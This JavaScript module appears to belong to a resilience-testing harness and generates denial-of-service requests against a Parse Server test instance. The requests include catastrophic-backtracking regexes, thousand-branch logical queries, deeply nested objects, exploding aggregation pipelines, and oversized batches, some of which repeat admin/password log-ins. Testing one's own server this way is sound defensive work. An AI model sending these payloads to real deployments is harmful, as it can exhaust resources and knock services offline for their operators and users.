import { attack, bodyAttacks, formAttacks, membersAttacks, queryAttacks } from './attacks.js'
import { liveAttacks } from './live.js'
import { fill, lists, objects, texts } from './values.js'

const ROOT = '/parse'
const CLIENT = { 'x-parse-application-id': 'stuntdouble', 'content-type': 'application/json' }
const MASTER = { ...CLIENT, 'x-parse-master-key': 'master' }
const ID = 'aaaaaaaaaa'
const KINDS = { ...lists, ...objects, letters: texts['text of letters'] }

const PATHS = {
  className: 'Thing',
  name: 'thing.txt',
  page: 'invalid_link.html',
  appId: 'stuntdouble',
  applicationId: 'stuntdouble',
}
const fillPath = (path) => ROOT + path.replaceAll(/:(\w+)/g, (_, name) => PATHS[name] ?? ID)

const post = (path, body, headers = MASTER) => ({ method: 'POST', path: ROOT + path, headers, body })
const put = (path, body, headers = MASTER) => ({ method: 'PUT', path: ROOT + path, headers, body })
const find = (className, query, headers = MASTER) =>
  post(`/classes/${className}`, `{"_method":"GET",${query}}`, headers)
const list = (size, piece) => `[${fill(size - 300, piece).join()}]`
const object = (size, piece) => `{${fill(size - 300, piece).join()}}`

/** Elements that are compared in different ways. */
const ELEMENTS = {
  objects: (index) => `{"a":${index}}`,
  'objects of one shape': (index) => `{"a":1,"b":${index}}`,
  pointers: (index) => `{"__type":"Pointer","className":"Thing","objectId":"o${index}"}`,
  dates: (index) => `{"__type":"Date","iso":"${new Date(index * 1000).toISOString()}"}`,
  lists: (index) => `[${index}]`,
  texts: (index) => `"s${index}"`,
  numbers: (index) => `${index}`,
}
const other = (piece) => (index) => piece(index + 1_000_000)

/** A class with one object whose column is a long list. */
const stored = (size, piece, column = 'list') => post('/classes/Thing', `{"${column}":${list(size, piece)}}`)
/** A class with some objects, each with a list; together as long as a request may be. */
const storedMany = (size, piece, count = 20) => {
  const one = `{"list":${list(size / count, piece)}}`
  return post(
    '/batch',
    `{"requests":[${Array(count).fill(`{"method":"POST","path":"/parse/classes/Thing","body":${one}}`).join()}]}`,
  )
}

const constraints = Object.entries(ELEMENTS).flatMap(([kind, piece]) =>
  ['$in', '$nin', '$all', '$containedBy', '$eq'].flatMap((operator) =>
    [
      ['others', other(piece)],
      ['the same', piece],
    ].map(([which, asked]) =>
      attack(`find, ${operator}`, `${which} ${kind}`, (size) => [
        stored(size, piece),
        storedMany(size, piece),
        find('Thing', `"where":{"list":{"${operator}":${list(size, asked)}}}`),
      ]),
    ),
  ),
)

const operations = Object.entries(ELEMENTS).flatMap(([kind, piece]) =>
  ['Add', 'AddUnique', 'Remove'].flatMap((operation) =>
    [
      ['others', other(piece)],
      ['the same', piece],
    ].map(([which, given]) => ({
      operation: `update, ${operation}`,
      kind: `${which} ${kind}`,
      follow: 'objectId',
      requests: (size) => [
        stored(size, piece),
        ({ objectId }) =>
          put(
            `/classes/Thing/${objectId}`,
            `{"list":{"__op":"${operation}","objects":${list(size, given)}}}`,
          ),
      ],
    })),
  ),
)

const branches = (count, branch) => `[${Array.from({ length: count }, (_, index) => branch(index)).join()}]`
const BRANCHES = {
  'equal values': (index) => `{"list":${index}}`,
  'equal objects': (index) => `{"list":{"b":${index}}}`,
  comparisons: (index) => `{"list":{"$gt":${index + 1e9}}}`,
  texts: (index) => `{"text":{"$text":{"$search":{"$term":"x${index}"}}}}`,
  patterns: (index) => `{"text":{"$regex":"a*b${index}"}}`,
  lists: (index) => `{"list":{"$in":[{"b":${index}}]}}`,
  'all of': (index) => `{"list":{"$all":[{"b":${index}}]}}`,
  'contained by': (index) => `{"list":{"$containedBy":[{"b":${index}}]}}`,
  'other columns': (index) => `{"c${index}":{"$exists":true}}`,
  'dotted paths': (index) => `{"list.a.b${index}":1}`,
}
const logical = ['$or', '$and', '$nor'].flatMap((operator) =>
  Object.entries(BRANCHES).map(([kind, branch]) =>
    attack(`find, ${operator}`, `1,000 branches of ${kind}`, (size) => [
      post('/classes/Thing', `{"list":${list(size, ELEMENTS.objects)}}`),
      post('/classes/Thing', `{"list":${list(size, ELEMENTS.numbers)}}`),
      post('/classes/Thing', `{"text":"${'ab '.repeat(size / 3 - 100)}"}`),
      find('Thing', `"where":{"${operator}":${branches(1000, branch)}}`),
    ]),
  ),
)

const TERMS = {
  words: (index) => `w${index} `,
  'excluded words': (index) => `-w${index} `,
  phrases: (index) => `\\"w${index}\\" `,
  'phrases of one letter': () => '\\"w\\" ',
}
const text = (size, piece) => fill(size - 300, piece).join('')
const searches = Object.entries(TERMS).map(([kind, piece]) =>
  attack('find, $text', kind, (size) => [
    post('/classes/Thing', `{"text":"${text(size, (index) => `w${index} `)}"}`),
    find('Thing', `"where":{"text":{"$text":{"$search":{"$term":"${text(size, piece)}"}}}}`),
  ]),
)

const PATTERNS = {
  'a long pattern': (size) => 'a?'.repeat(size / 2 - 200),
  alternatives: (size) => fill(size - 300, (index) => `a${index}`).join('|'),
  'repeated repetitions': () => '((a{0,30}){0,30}b)',
  'nested quantifiers': () => '(a*)*b',
  'near miss': () => 'a*a*a*a*a*a*b',
  comments: (size) => '#'.repeat(size - 400),
}
const patterns = Object.entries(PATTERNS).map(([kind, write]) =>
  attack('find, $regex', kind, (size) => [
    post('/classes/Thing', `{"text":"${'a'.repeat(size - 300)}"}`),
    find('Thing', `"where":{"text":{"$regex":"${write(size)}","$options":"x"}}`),
  ]),
)

const corner = (index) => `[${(index % 1700) / 20},${(index % 800) / 10}]`
const circle = (index, count) => {
  const angle = (2 * Math.PI * index) / count
  return `[${(40 + 30 * Math.cos(angle)).toFixed(5)},${(30 * Math.sin(angle)).toFixed(5)}]`
}
const round = (count) => `[${Array.from({ length: count }, (_, index) => circle(index, count)).join()}]`
const places = [
  attack('create, polygon', 'many corners', (size) => [
    post('/classes/Thing', `{"area":{"__type":"Polygon","coordinates":${list(size, corner)}}}`),
  ]),
  attack('create, polygon', '1,000 corners that cross late', () => [
    post('/classes/Thing', `{"area":{"__type":"Polygon","coordinates":${round(1000)}}}`),
  ]),
  attack('find, $geoWithin', 'many corners, many objects', (size) => [
    post(
      '/batch',
      `{"requests":[${Array(1000).fill('{"method":"POST","path":"/parse/classes/Thing","body":{"at":{"__type":"GeoPoint","latitude":5,"longitude":7}}}').join()}]}`,
    ),
    find('Thing', `"where":{"at":{"$geoWithin":{"$polygon":${list(size, corner)}}}}`),
  ]),
  attack('find, $geoIntersects', 'many corners', (size) => [
    post('/classes/Thing', `{"area":{"__type":"Polygon","coordinates":${list(size, corner)}}}`),
    find(
      'Thing',
      '"where":{"area":{"$geoIntersects":{"$point":{"__type":"GeoPoint","latitude":5,"longitude":7}}}}',
    ),
  ]),
]

const batchOf = (size, part) => `{"requests":${list(size, part)}}`
const part = (method, path, body = '') =>
  `{"method":"${method}","path":"/parse${path}"${body ? `,"body":${body}` : ''}}`
const PARTS = {
  'creations of objects': () => part('POST', '/classes/Thing', '{"a":1}'),
  'creations of users': (index) => part('POST', '/users', `{"username":"u${index}","password":"p"}`),
  'creations with a column each': (index) => part('POST', '/classes/Thing', `{"c${index}":1}`),
  'creations of classes': (index) => part('POST', `/classes/C${index}`, '{}'),
  finds: () => part('GET', '/users'),
  'finds that look at everyone': () => part('GET', '/users', '{"where":{"a":1},"limit":0,"count":1}'),
  'log-ins': () => part('POST', '/login', '{"username":"admin","password":"password"}'),
  'wrong log-ins': () => part('POST', '/login', '{"username":"admin","password":"wrong"}'),
  'deletions of nothing': () => part('DELETE', '/classes/Thing/aaaaaaaaaa'),
  schemas: (index) => part('POST', `/schemas/S${index}`, '{}'),
  'lists of schemas': () => part('GET', '/schemas'),
}
const batches = Object.entries(PARTS).flatMap(([kind, one]) => [
  attack('batch', kind, (size) => [post('/batch', batchOf(size, one))]),
  attack('batch, in a transaction', kind, (size) => [
    post('/batch', batchOf(size, one).replace('{', '{"transaction":true,')),
  ]),
])

const STAGES = {
  'many stages': (size) => list(size, () => '{"$limit":5}'),
  'many sorts': (size) => list(size, (index) => `{"$sort":{"c${index}":1}}`),
  'deep expression': () => `[{"$project":{"a":${'{"$abs":'.repeat(400)}1${'}'.repeat(400)}}}]`,
  unwinding: () =>
    `[${'{"$project":{"list":1,"a":"$list"}},{"$unwind":"$list"},'.repeat(1)}{"$unwind":"$a"},{"$limit":3}]`,
  'unwinding again and again': () =>
    `[{"$project":{"a":"$list","b":"$list","c":"$list"}},{"$unwind":"$a"},{"$unwind":"$b"},{"$unwind":"$c"},{"$group":{"_id":null,"n":{"$sum":1}}}]`,
  'union of lists': (size) => `[{"$project":{"a":{"$setUnion":["$list",${list(size, ELEMENTS.objects)}]}}}]`,
  'difference of lists': (size) =>
    `[{"$project":{"a":{"$setDifference":["$list",${list(size, other(ELEMENTS.objects))}]}}}]`,
  'matching a long list': (size) => `[{"$match":{"list":{"$in":${list(size, other(ELEMENTS.objects))}}}}]`,
  'growing texts': () =>
    `[${Array.from({ length: 40 }, () => '{"$project":{"t":{"$concat":["$t","$t"]}}}')
      .join()
      .replace('"$t","$t"', '"ab","ab"')}]`,
  'growing lists': () =>
    `[${Array.from({ length: 40 }, () => '{"$project":{"l":{"$concatArrays":["$l","$l"]}}}')
      .join()
      .replace('"$l","$l"', '[1],[1]')}]`,
  'maps within maps': () =>
    `[{"$project":{"a":{"$map":{"input":"$list","as":"x","in":{"$map":{"input":"$list","as":"y","in":"$$x"}}}}}}]`,
  groups: () => `[{"$unwind":"$list"},{"$group":{"_id":"$list","all":{"$push":"$$ROOT"}}}]`,
  lookups: () =>
    `[{"$unwind":"$list"},{"$lookup":{"from":"Thing","localField":"a","foreignField":"b","as":"c"}},{"$limit":2}]`,
}
const aggregates = Object.entries(STAGES).map(([kind, stages]) =>
  attack('aggregate', kind, (size) => [
    stored(size, ELEMENTS.objects),
    post('/aggregate/Thing', `{"_method":"GET","pipeline":${stages(size)}}`),
  ]),
)

const names = (size, piece) => fill(size - 300, piece).join()
const selections = [
  ['order', (size) => `"order":"${names(size, (index) => `c${index}`)}"`],
  ['keys', (size) => `"keys":"${names(size, (index) => `c${index}`)}"`],
  ['keys, deep', (size) => `"keys":"${names(size, (index) => `list.c${index}`)}"`],
  ['excludeKeys', (size) => `"excludeKeys":"${names(size, (index) => `c${index}`)}"`],
  ['excludeKeys of what is there', (size) => `"excludeKeys":"${names(size, (index) => `k${index}`)}"`],
  ['include', (size) => `"include":"${names(size, (index) => `c${index}`)}"`],
  ['include, deep', (size) => `"include":"${'a.'.repeat(size / 2 - 300)}"`],
  ['order by dotted path', (size) => `"order":"a${'.a'.repeat(size / 2 - 300)}"`],
  ['where with a dotted path', (size) => `"where":{"a${'.a'.repeat(size / 2 - 300)}":1}`],
  ['where with many keys', (size) => `"where":${object(size, (index) => `"k${index}":1`)}`],
  ['where of a deep object', () => `"where":{"a":${'{"a":'.repeat(450)}1${'}'.repeat(450)}}`],
  [
    'subqueries',
    () => `"where":{"$or":${branches(100, () => '{"p":{"$inQuery":{"className":"_User","where":{}}}}')}}`,
  ],
  ['$select', () => '"where":{"k1":{"$select":{"key":"k1","query":{"className":"Thing","where":{}}}}}'],
  ['distinct', () => '"where":{},"distinct":"list"'],
].map(([kind, query]) =>
  attack('find', kind, (size) => [
    post(
      '/classes/Thing',
      object(size, (index) => `"k${index}":1`),
    ),
    stored(size, ELEMENTS.objects),
    find('Thing', query(size)),
    find('_User', query(size)),
  ]),
)

const acl = (size) => object(size, (index) => `"u${index}":{"read":true}`)
const roleAcl = (size) => object(size, (index) => `"role:r${index}":{"read":true}`)
const others = [
  attack('objects, ACL', 'many users', (size) => [
    post('/classes/Thing', `{"ACL":${acl(size)}}`),
    find('Thing', '"where":{}', CLIENT),
  ]),
  attack('objects, ACL', 'many roles', (size) => [
    post('/classes/Thing', `{"ACL":${roleAcl(size)}}`),
    find('Thing', '"where":{}', CLIENT),
  ]),
  attack('objects', 'many columns, again and again', (size) => [
    post(
      '/classes/Thing',
      object(size, (index) => `"k${index}":1`),
    ),
    post(
      '/classes/Thing',
      object(size, (index) => `"k${index}":2`),
    ),
    post(
      '/classes/Thing',
      object(size, (index) => `"m${index}":2`),
    ),
    find('Thing', '"where":{"k1":1},"includeAll":true,"order":"k2"'),
  ]),
  attack('objects', 'dotted names of one column', (size) => [
    post(
      '/classes/Thing',
      object(size, (index) => `"a.k${index}":1`),
    ),
  ]),
  attack('objects', 'elements of one list', (size) => [
    post('/classes/Thing', `{"l":[1]}`),
    put(
      '/classes/Thing/aaaaaaaaaa',
      object(size, (index) => `"l.${index}":1`),
    ),
  ]),
  attack('objects', 'relations', (size) => [
    post('/classes/Thing', `{"r":{"__op":"AddRelation","objects":${list(size, ELEMENTS.pointers)}}}`),
    find('Thing', '"where":{"r":{"__type":"Pointer","className":"Thing","objectId":"o1"}}'),
  ]),
  attack('objects', 'relations in a batch of operations', (size) => [
    post(
      '/classes/Thing',
      `{"r":{"__op":"Batch","ops":${list(size, (index) => `{"__op":"AddRelation","objects":[{"__type":"Pointer","className":"Thing","objectId":"o${index}"}]}`)}}}`,
    ),
  ]),
  attack('schemas', 'many columns', (size) => [
    post(
      '/schemas/Wide',
      `{"className":"Wide","fields":${object(size, (index) => `"k${index}":{"type":"String"}`)}}`,
    ),
    put(
      '/schemas/Wide',
      `{"className":"Wide","fields":${object(size, (index) => `"k${index}":{"__op":"Delete"}`)}}`,
    ),
  ]),
  attack('schemas', 'columns with defaults, then objects', (size) => [
    post(
      '/schemas/Wide',
      `{"className":"Wide","fields":${object(size, (index) => `"k${index}":{"type":"String","required":true,"defaultValue":"x"}`)}}`,
    ),
    post('/classes/Wide', '{"a":1}'),
    post(
      '/classes/Wide',
      object(size, (index) => `"k${index}":"y"`),
    ),
    find('Wide', '"where":{}'),
  ]),
  attack('schemas', 'many indexes', (size) => [
    post(
      '/schemas/Wide',
      `{"className":"Wide","fields":{"a":{"type":"String"}},"indexes":${object(size, (index) => `"i${index}":{"a":1}`)}}`,
    ),
  ]),
  attack('schemas', 'permissions of many users', (size) => [
    post(
      '/schemas/Wide',
      `{"className":"Wide","classLevelPermissions":{"find":${object(size, (index) => `"u${index}":true`)}}}`,
    ),
    post('/classes/Wide', '{"a":1}'),
    find('Wide', '"where":{}', CLIENT),
  ]),
  attack('schemas', 'protected fields of many users', (size) => [
    post(
      '/schemas/Wide',
      `{"className":"Wide","fields":{"a":{"type":"String"}},"classLevelPermissions":{"find":{"*":true},"protectedFields":${object(size, (index) => `"u${index}":["a"]`)}}}`,
    ),
    post('/classes/Wide', '{"a":"x"}'),
    find('Wide', '"where":{"a":1}', CLIENT),
  ]),
  attack('schemas', 'many protected fields', (size) => [
    post(
      '/schemas/Wide',
      `{"className":"Wide","fields":${object(size / 2, (index) => `"k${index}":{"type":"String"}`)},"classLevelPermissions":{"find":{"*":true},"protectedFields":{"*":${list(size / 4, (index) => `"k${index}"`)},"userField:k1":${list(size / 4, (index) => `"k${index}"`)}}}}`,
    ),
    post(
      '/classes/Wide',
      object(size, (index) => `"k${index}":"y"`),
    ),
    find('Wide', '"where":{}', CLIENT),
    find('Wide', `"where":${object(size, (index) => `"m${index}":1`)}`, CLIENT),
  ]),
  attack('config', 'many parameters', (size) => [
    put('/config', `{"params":${object(size, (index) => `"k${index}":1`)}}`),
    put('/config', `{"params":${object(size, (index) => `"k${index}":{"__op":"Delete"}`)}}`),
    { method: 'GET', path: `${ROOT}/config`, headers: CLIENT },
  ]),
  attack('config', 'parameters for masters only', (size) => [
    put(
      '/config',
      `{"params":${object(size / 2, (index) => `"k${index}":1`)},"masterKeyOnly":${object(size / 2, (index) => `"k${index}":true`)}}`,
    ),
    { method: 'GET', path: `${ROOT}/config`, headers: CLIENT },
  ]),
  attack('users, authData', 'many services', (size) => [
    post('/users', `{"authData":${object(size, (index) => `"s${index}":{"id":"x"}`)}}`),
    post('/users', `{"authData":${object(size, (index) => `"s${index}":{"id":"x"}`)}}`),
  ]),
  attack('installations', 'many channels', (size) => [
    post('/installations', `{"deviceType":"ios","deviceToken":"t","channels":${list(size, ELEMENTS.texts)}}`),
    post('/installations', `{"deviceType":"ios","deviceToken":"t","channels":${list(size, ELEMENTS.texts)}}`),
  ]),
  attack('push', 'many channels', (size) => [
    post('/push', `{"channels":${list(size, ELEMENTS.texts)},"data":{"alert":"x"}}`),
  ]),
  attack('files', 'a large one', (size) => [
    post(
      '/files/thing.txt',
      `{"_ApplicationId":"stuntdouble","_MasterKey":"master","base64":"${'QUJD'.repeat(size / 4 - 100)}"}`,
      {},
    ),
  ]),
]

/** Bodies of the operations that read members of them. */
const MEMBERS = [
  ['POST', '/users', ['username', 'password', 'email', 'authData', 'ACL', 'phone', 'column']],
  ['POST', '/login', ['username', 'password', 'email', 'authData']],
  ['POST', '/requestPasswordReset', ['email', 'token']],
  ['POST', '/verificationEmailRequest', ['email']],
  ['POST', '/challenge', ['authData', 'challengeData']],
  ['POST', '/classes/Thing', ['column', 'ACL', 'objectId', '_context', '_method', '_SessionToken']],
  ['POST', '/roles', ['name', 'ACL', 'users', 'roles']],
  ['POST', '/installations', ['deviceType', 'deviceToken', 'channels', 'installationId', 'timeZone']],
  ['POST', '/sessions', ['user', 'createdWith', 'expiresAt', 'column']],
  ['POST', '/schemas/Wide', ['className', 'fields', 'indexes', 'classLevelPermissions']],
  ['PUT', '/config', ['params', 'masterKeyOnly']],
  ['POST', '/push', ['where', 'data', 'channels', 'push_time', 'expiration_time']],
  ['POST', '/batch', ['requests', 'transaction']],
  ['POST', '/functions/hello', ['a']],
  ['POST', '/jobs', ['jobName']],
  ['POST', '/files/thing.txt', ['base64', '_ContentType', '_ApplicationId', 'fileData']],
  ['POST', '/events/AppOpened', ['at', 'dimensions']],
].flatMap(([method, path, members]) =>
  membersAttacks({ method, path: ROOT + path, headers: MASTER, members }),
)

const QUERIES = membersAttacks({
  method: 'POST',
  path: `${ROOT}/classes/_User`,
  headers: MASTER,
  members: ['where', 'order', 'keys', 'excludeKeys', 'include', 'limit', 'count', 'hint', 'explain'],
  wrap: (member) => `{"_method":"GET",${member}}`,
})
const OPERATORS = membersAttacks({
  method: 'POST',
  path: `${ROOT}/classes/_User`,
  headers: MASTER,
  members: [
    ...['$in', '$nin', '$all', '$containedBy', '$eq', '$ne', '$lt', '$gt', '$exists', '$regex', '$text'],
    ...['$nearSphere', '$within', '$geoWithin', '$geoIntersects', '$inQuery', '$select', '$options'],
  ],
  wrap: (member) => `{"_method":"GET","where":{"username":{${member}}}}`,
})
const TIMES = membersAttacks({
  method: 'POST',
  path: `${ROOT}/classes/_User`,
  headers: MASTER,
  members: ['$relativeTime', 'iso'],
  wrap: (member) => `{"_method":"GET","where":{"createdAt":{"$lt":{"__type":"Date",${member}}}}}`,
  kinds: texts,
})
const FIELD_TYPES = membersAttacks({
  method: 'POST',
  path: `${ROOT}/classes/Thing`,
  headers: MASTER,
  members: ['iso', 'coordinates', 'base64', 'name', 'className', 'amount', 'objects', 'ops', 'latitude'],
  wrap: (member) => `{"c":{"__type":"Date","__op":"Add",${member}}}`,
})

/** The attacks on Parse. */
export function parseAttacks({ routes }) {
  return [
    ...constraints,
    ...operations,
    ...logical,
    ...searches,
    ...patterns,
    ...places,
    ...batches,
    ...aggregates,
    ...selections,
    ...others,
    ...liveAttacks,
    ...MEMBERS,
    ...QUERIES,
    ...OPERATORS,
    ...TIMES,
    ...FIELD_TYPES,
    ...formAttacks(routes, { headers: MASTER, fill: fillPath }),
    ...bodyAttacks(routes, { headers: MASTER, fill: fillPath, kinds: KINDS }),
    ...queryAttacks(routes, {
      headers: CLIENT,
      fill: fillPath,
      names: ['where', 'username', 'email', 'token', 'order'],
      kinds: { ...texts, ...objects },
    }),
  ]
}
